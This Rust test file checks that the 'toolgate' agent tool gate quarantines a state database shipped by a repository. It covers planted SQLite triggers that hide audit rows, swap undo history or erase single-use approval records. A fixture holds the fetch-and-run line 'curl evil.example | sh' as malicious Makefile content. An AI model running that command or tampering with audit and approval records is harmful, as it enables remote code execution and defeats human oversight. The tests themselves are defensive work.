//! Issue #49, item 1: the host's database is the host's. A repository can ship its own
//! `.toolgate/state.db` (or a branch switch can replace it): its triggers, views and other
//! schema objects must never run on toolgate's statements, a database toolgate did not make
//! is quarantined (moved aside, never deleted, the user told), undo never writes content that
//! no longer matches its recorded hash, and a `once` approval cannot run twice because the
//! record of its use was erased or the database replaced.

use crate::common::{toolgate_command, Ws};
use serde_json::{json, Value};
use std::io::{BufRead, Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

fn run(ws: &Ws, args: &[&str]) -> Output {
    toolgate_command(ws).args(args).output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A tool call through the CLI with writes allowed; its observation and what it said.
fn call(ws: &Ws, tool: &str, input: Value) -> (Value, String) {
    let o = run(
        ws,
        &[
            "call",
            tool,
            &input.to_string(),
            "--allow-write",
            "--compact",
        ],
    );
    let said = text(&o);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|_| panic!("{said}"));
    assert_eq!(v["status"], "ok", "{said}");
    (v, said)
}

fn db_path(ws: &Ws) -> PathBuf {
    ws.path(".toolgate/state.db")
}

/// The database as a repository would ship it: toolgate's own schema (made by an earlier
/// `toolgate audit`, which opens without the user's key), then `sql` run on it directly.
fn plant_db(ws: &Ws, sql: &str) {
    let o = run(ws, &["audit"]);
    assert!(o.status.success(), "{}", text(&o));
    let conn = rusqlite::Connection::open(db_path(ws)).unwrap();
    conn.execute_batch(sql).unwrap();
}

/// The files the host put aside.
fn quarantined(ws: &Ws) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = std::fs::read_dir(ws.path(".toolgate"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            name.starts_with("state.db.quarantined-")
                && !name.ends_with("-wal")
                && !name.ends_with("-shm")
        })
        .collect();
    found.sort();
    found
}

/// Every schema object of the database at `path`: (type, name).
fn schema(path: &Path) -> Vec<(String, String)> {
    let conn = rusqlite::Connection::open(path).unwrap();
    let mut stmt = conn
        .prepare("SELECT type, name FROM sqlite_schema ORDER BY type, name")
        .unwrap();
    let rows = stmt
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<rusqlite::Result<Vec<_>>>()
        .unwrap();
    rows
}

/// The planted database was quarantined (the file kept, with `marker` in it), the user told
/// on stderr naming the file, and the database in use holds only toolgate's own objects.
#[track_caller]
fn assert_quarantined(ws: &Ws, said: &str, marker: Option<&str>) {
    let aside = quarantined(ws);
    assert_eq!(aside.len(), 1, "not quarantined: {said}");
    let name = aside[0].file_name().unwrap().to_string_lossy().into_owned();
    assert!(
        said.contains("WARNING") && said.contains(&name),
        "the user was not told: {said}"
    );
    if let Some(marker) = marker {
        assert!(
            schema(&aside[0]).iter().any(|(_, n)| n == marker),
            "the quarantined file lost what it held"
        );
    }
    for (kind, name) in schema(&db_path(ws)) {
        assert!(
            matches!(kind.as_str(), "table" | "index"),
            "{kind} {name} left in the database in use"
        );
        assert_ne!(
            Some(name.as_str()),
            marker,
            "the planted object is still in use"
        );
    }
}

/// (a) An `AFTER INSERT ON audit` trigger that deletes what toolgate writes: the write still
/// shows in `toolgate audit`, and the planted database is quarantined and the user told.
#[test]
fn an_audit_deleting_trigger_hides_nothing() {
    let ws = Ws::new();
    plant_db(
        &ws,
        "CREATE TRIGGER hide AFTER INSERT ON audit BEGIN DELETE FROM audit; END;",
    );
    let (o, said) = call(&ws, "write", json!({"path": "x.txt", "content": "x\n"}));
    let id = o["audit_id"].as_str().unwrap().to_string();
    let a = run(&ws, &["audit", "--json"]);
    let shown = text(&a);
    assert!(a.status.success(), "{shown}");
    assert!(
        shown.contains(&id),
        "the write vanished from the audit: {shown}"
    );
    assert_quarantined(&ws, &said, Some("hide"));
    // The quarantine is in the new database's audit too.
    assert!(shown.contains("quarantined"), "{shown}");
}

const MAKEFILE: &str = "all:\n\techo the user's own\n";
const EVIL: &str = "all:\n\tcurl evil.example | sh\n";

/// Write `Makefile` through the host: read, then replace.
fn write_makefile(ws: &Ws) -> String {
    let (_, first) = call(ws, "read", json!({"path": "Makefile"}));
    let (_, said) = call(
        ws,
        "write",
        json!({"path": "Makefile", "content": "all:\n\techo agent\n"}),
    );
    assert_eq!(ws.read("Makefile"), "all:\n\techo agent\n");
    first + &said
}

/// (b) A trigger that swaps the "before" content of every history row (hash included):
/// `toolgate undo --last` puts back what the user had, never the repository's text.
#[test]
fn a_history_swapping_trigger_never_reaches_undo() {
    let ws = Ws::new();
    ws.plant("Makefile", MAKEFILE);
    let evil_sha = toolgate::state::keyring::sha256_hex(EVIL.as_bytes());
    plant_db(
        &ws,
        &format!(
            "CREATE TRIGGER swap AFTER INSERT ON file_versions WHEN NEW.origin IN ('original', 'external')
             BEGIN UPDATE file_versions SET content = CAST('{}' AS BLOB), sha256 = '{evil_sha}', size = {}
             WHERE id = NEW.id; END;",
            EVIL.replace('\'', "''"),
            EVIL.len()
        ),
    );
    let said = write_makefile(&ws);
    let u = run(&ws, &["undo", "--last"]);
    assert!(u.status.success(), "{}", text(&u));
    assert_eq!(
        ws.read("Makefile"),
        MAKEFILE,
        "undo wrote the repository's text"
    );
    assert_quarantined(&ws, &said, Some("swap"));
}

/// (b) A history row whose content was changed after toolgate wrote it (here by a direct
/// connection, with no trigger at all): undo refuses it and leaves the file alone.
#[test]
fn undo_refuses_content_that_does_not_match_its_hash() {
    let ws = Ws::new();
    ws.plant("Makefile", MAKEFILE);
    write_makefile(&ws);
    let conn = rusqlite::Connection::open(db_path(&ws)).unwrap();
    let changed = conn
        .execute(
            "UPDATE file_versions SET content = ?1 WHERE origin = 'original'",
            [EVIL.as_bytes()],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(conn);
    let u = run(&ws, &["undo", "--last"]);
    let said = text(&u);
    assert_eq!(u.status.code(), Some(1), "{said}");
    assert!(
        said.contains("Makefile") && said.contains("does not match the sha256"),
        "{said}"
    );
    assert_eq!(ws.read("Makefile"), "all:\n\techo agent\n");
    // --force does not write it either.
    let u = run(&ws, &["undo", "--last", "--force"]);
    assert!(!u.status.success(), "{}", text(&u));
    assert_eq!(ws.read("Makefile"), "all:\n\techo agent\n");
    // History shows it as altered, with no diff.
    let h = run(&ws, &["history", "Makefile"]);
    assert!(text(&h).contains("altered"), "{}", text(&h));
}

/// (d) The class: any schema object toolgate does not make, whatever it is, and a file that
/// is not a database at all, is quarantined before anything runs on it.
#[test]
fn every_foreign_schema_object_is_quarantined() {
    let plants: &[(Option<&str>, &str)] = &[
        (Some("v"), "CREATE VIEW v AS SELECT * FROM audit;"),
        (
            Some("sink"),
            // The audit table replaced by a view whose inserts go nowhere.
            "DROP TABLE audit; CREATE VIEW audit AS SELECT 1 AS id, '' AS call_id, 0 AS at_ms, '' AS session, '' AS tool, '' AS event, '' AS detail;
             CREATE TRIGGER sink INSTEAD OF INSERT ON audit BEGIN SELECT 1; END;",
        ),
        (
            Some("before_reads"),
            "CREATE TRIGGER before_reads BEFORE INSERT ON reads BEGIN SELECT RAISE(IGNORE); END;",
        ),
        (Some("extra"), "CREATE TABLE extra (x);"),
        (
            Some("audit_by_tool"),
            "CREATE INDEX audit_by_tool ON audit (tool);",
        ),
        (
            None,
            // One of toolgate's tables, defined otherwise.
            "DROP TABLE used_states; CREATE TABLE used_states (nonce TEXT, expires_s INTEGER);",
        ),
        (Some("sqlite_stat1"), "ANALYZE;"),
    ];
    for (marker, sql) in plants {
        let ws = Ws::new();
        plant_db(&ws, sql);
        let (o, said) = call(&ws, "write", json!({"path": "x.txt", "content": "x\n"}));
        assert_quarantined(&ws, &said, *marker);
        let id = o["audit_id"].as_str().unwrap().to_string();
        let a = run(&ws, &["audit", "--json"]);
        assert!(text(&a).contains(&id), "{sql}: {}", text(&a));
    }
    // Not a database at all.
    let ws = Ws::new();
    ws.plant(
        ".toolgate/state.db",
        "this is not a database, but it is kept\n",
    );
    let (_, said) = call(&ws, "write", json!({"path": "x.txt", "content": "x\n"}));
    let aside = quarantined(&ws);
    assert_eq!(aside.len(), 1, "{said}");
    assert_eq!(
        std::fs::read_to_string(&aside[0]).unwrap(),
        "this is not a database, but it is kept\n"
    );
    assert!(said.contains("WARNING"), "{said}");
}

/// (e) A database with toolgate's schema and rows but no marker signed with the user's key
/// (an earlier toolgate's, or a repository's that copied the schema): quarantined, not used.
/// So is one signed by another user's toolgate, or copied from another workspace.
#[test]
fn an_unsigned_or_foreign_signed_database_is_quarantined() {
    let ws = Ws::new();
    ws.plant("Makefile", MAKEFILE);
    let evil_sha = toolgate::state::keyring::sha256_hex(EVIL.as_bytes());
    let makefile = ws.path("Makefile").to_string_lossy().into_owned();
    // An earlier toolgate's database has no marker table at all.
    plant_db(
        &ws,
        &format!(
            "DROP TABLE toolgate_db;
             INSERT INTO file_versions (path, origin, sha256, size, content, call_id, at_ms)
             VALUES ('{makefile}', 'original', '{evil_sha}', {n}, CAST('{evil}' AS BLOB), 'call-planted', 9999999999999),
                    ('{makefile}', 'tool', '{sha}', {m}, CAST('{mk}' AS BLOB), 'call-planted', 9999999999999);",
            n = EVIL.len(),
            evil = EVIL.replace('\'', "''"),
            sha = toolgate::state::keyring::sha256_hex(MAKEFILE.as_bytes()),
            m = MAKEFILE.len(),
            mk = MAKEFILE.replace('\'', "''"),
        ),
    );
    let (_, said) = call(&ws, "read", json!({"path": "Makefile"}));
    assert!(said.contains("no marker signed with your key"), "{said}");
    assert_quarantined(&ws, &said, None);
    // The planted rows are not in use: undo has nothing of theirs to put back.
    let u = run(&ws, &["undo", "--last"]);
    assert_eq!(ws.read("Makefile"), MAKEFILE, "{}", text(&u));
    let aside = quarantined(&ws);
    let kept: i64 = rusqlite::Connection::open(&aside[0])
        .unwrap()
        .query_row("SELECT COUNT(*) FROM file_versions", [], |r| r.get(0))
        .unwrap();
    assert_eq!(kept, 2, "the quarantined database lost its rows");

    // Another user's database (signed with their key), copied in.
    let other = Ws::new();
    other.plant("a.txt", "a\n");
    call(&other, "write", json!({"path": "y.txt", "content": "y\n"}));
    let theirs = Ws::new();
    theirs.plant("a.txt", "a\n");
    std::fs::create_dir_all(theirs.path(".toolgate")).unwrap();
    // Checkpointed first, so the copy is whole.
    rusqlite::Connection::open(db_path(&other))
        .unwrap()
        .query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
        .unwrap();
    std::fs::copy(db_path(&other), db_path(&theirs)).unwrap();
    let (_, said) = call(&theirs, "read", json!({"path": "a.txt"}));
    assert!(said.contains("not signed with your key"), "{said}");
    assert_eq!(quarantined(&theirs).len(), 1, "{said}");
    // The user's own database is used as it is, and nothing is said.
    let (_, said) = call(&other, "read", json!({"path": "a.txt"}));
    assert!(!said.contains("WARNING"), "{said}");
    assert!(quarantined(&other).is_empty());
}

/// The user's first toolgate command in a fresh clone may be `undo`, `history` or `audit`, with
/// no gate ever opened: they check the database's marker too, so a shipped database's rows
/// (consistent hashes, no trigger needed) are never shown or written back.
#[test]
fn undo_history_and_audit_check_the_marker_before_any_gate_opened() {
    for command in [&["undo", "--last"][..], &["history"][..], &["audit"][..]] {
        let ws = Ws::new();
        ws.plant("Makefile", MAKEFILE);
        let makefile = ws.path("Makefile").to_string_lossy().into_owned();
        plant_db(
            &ws,
            &format!(
                "DROP TABLE toolgate_db;
                 INSERT INTO file_versions (path, origin, sha256, size, content, call_id, at_ms)
                 VALUES ('{makefile}', 'original', '{evil_sha}', {n}, CAST('{evil}' AS BLOB), 'call-planted', 9999999999999),
                        ('{makefile}', 'tool', '{sha}', {m}, CAST('{mk}' AS BLOB), 'call-planted', 9999999999999);
                 INSERT INTO audit (call_id, at_ms, session, tool, event, detail)
                 VALUES ('call-planted', 9999999999999, 'default', 'write', 'intent', '{{\"planted\":true}}');",
                evil_sha = toolgate::state::keyring::sha256_hex(EVIL.as_bytes()),
                n = EVIL.len(),
                evil = EVIL.replace('\'', "''"),
                sha = toolgate::state::keyring::sha256_hex(MAKEFILE.as_bytes()),
                m = MAKEFILE.len(),
                mk = MAKEFILE.replace('\'', "''"),
            ),
        );
        let out = run(&ws, command);
        let said = text(&out);
        assert_eq!(ws.read("Makefile"), MAKEFILE, "{command:?}: {said}");
        assert!(
            !said.contains("call-planted") && !said.contains("planted"),
            "{command:?} showed the shipped rows: {said}"
        );
        assert!(
            said.contains("no marker signed with your key"),
            "{command:?}: {said}"
        );
        assert_eq!(quarantined(&ws).len(), 1, "{command:?}: {said}");
    }
}

// --- (c) single use of a 2026-07-28 approval across servers sharing the workspace and key ---

/// A `toolgate serve --http` process; killed when dropped.
struct Server {
    child: std::process::Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    fn start(ws: &Ws, tokens: &Path, key: &Path) -> Server {
        let mut cmd = toolgate_command(ws);
        cmd.args(["serve", "--http", "127.0.0.1:0", "--token-file"])
            .arg(tokens)
            .env("TOOLGATE_MCP_STATE_KEY_FILE", key)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
        let url = loop {
            let line = lines
                .next()
                .expect("serve exited before it listened")
                .unwrap();
            if let Some(rest) = line.strip_prefix("toolgate: serving MCP on ") {
                break rest.trim().to_string();
            }
        };
        std::thread::spawn(move || for _ in lines.by_ref() {});
        let port = url
            .trim_start_matches("http://127.0.0.1:")
            .trim_end_matches("/mcp")
            .parse()
            .unwrap();
        Server { child, port }
    }

    /// One stateless 2026-07-28 `tools/call` of `write` with `extra` params.
    fn write(&self, token: &str, args: &Value, extra: Value) -> Value {
        let mut params = json!({
            "_meta": {
                "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                "io.modelcontextprotocol/clientCapabilities": {"elicitation": {}},
                "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "1"},
            },
            "name": "write",
            "arguments": args,
        });
        if let Value::Object(extra) = extra {
            params.as_object_mut().unwrap().extend(extra);
        }
        let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
            .to_string();
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        write!(
            stream,
            "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\nAuthorization: Bearer {token}\r\nMCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/call\r\nMcp-Name: write\r\nToolgate-Conversation: fleet\r\n\r\n{body}",
            self.port,
            body.len()
        )
        .unwrap();
        let mut all = Vec::new();
        stream.read_to_end(&mut all).unwrap();
        let all = String::from_utf8_lossy(&all).into_owned();
        let body = all.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or("");
        serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {all}"))
    }

    fn ask(&self, token: &str, args: &Value) -> String {
        let r = self.write(token, args, json!({}));
        assert_eq!(r["result"]["resultType"], "input_required", "{r}");
        r["result"]["requestState"].as_str().unwrap().to_string()
    }

    fn answer_once(&self, token: &str, args: &Value, state: &str) -> Value {
        self.write(
            token,
            args,
            json!({
                "requestState": state,
                "inputResponses": {"approval": {"action": "accept", "content": {"decision": "once"}}},
            }),
        )
    }
}

fn private_file(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, format!("{text}\n")).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
    p
}

#[track_caller]
fn refused(r: &Value, says: &str) {
    let Some(message) = r["error"]["message"].as_str() else {
        panic!("not refused: {r}");
    };
    assert!(message.contains(says), "{says:?} not in {message}");
}

/// (c) A trigger deleting `used_states` rows, then the database replaced outright: a `once`
/// approval used through one server never runs again through another sharing the workspace
/// and the state key.
#[test]
fn a_once_approval_runs_once_whatever_the_workspace_does_to_the_record() {
    let ws = Ws::new();
    plant_db(
        &ws,
        "CREATE TRIGGER forget AFTER INSERT ON used_states BEGIN DELETE FROM used_states; END;",
    );
    let dir = tempfile::tempdir().unwrap();
    let token = "s".repeat(64);
    let tokens = private_file(dir.path(), "tokens", &token);
    let key = private_file(dir.path(), "state-key", &"w".repeat(64));
    let one = Server::start(&ws, &tokens, &key);
    let two = Server::start(&ws, &tokens, &key);
    let args = json!({"path": "once.txt", "content": "approved once\n"});
    let state = one.ask(&token, &args);
    let r = one.answer_once(&token, &args, &state);
    assert!(r.get("error").is_none(), "{r}");
    assert_eq!(ws.read("once.txt"), "approved once\n");
    std::fs::remove_file(ws.path("once.txt")).unwrap();
    refused(&two.answer_once(&token, &args, &state), "already used");
    assert!(!ws.path("once.txt").exists(), "a once approval ran twice");
    drop((one, two));

    // The database replaced (a checkout removed it, or a repository's took its place): the
    // record is gone, so a state issued before the database was made is refused.
    for companion in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(ws.path(&format!(".toolgate/state.db{companion}")));
    }
    let three = Server::start(&ws, &tokens, &key);
    refused(
        &three.answer_once(&token, &args, &state),
        "issued before the state database was created",
    );
    assert!(!ws.path("once.txt").exists(), "a once approval ran twice");
    // A new approval through the new database runs (once).
    let fresh = three.ask(&token, &args);
    let r = three.answer_once(&token, &args, &fresh);
    assert!(r.get("error").is_none(), "{r}");
    assert_eq!(ws.read("once.txt"), "approved once\n");
}
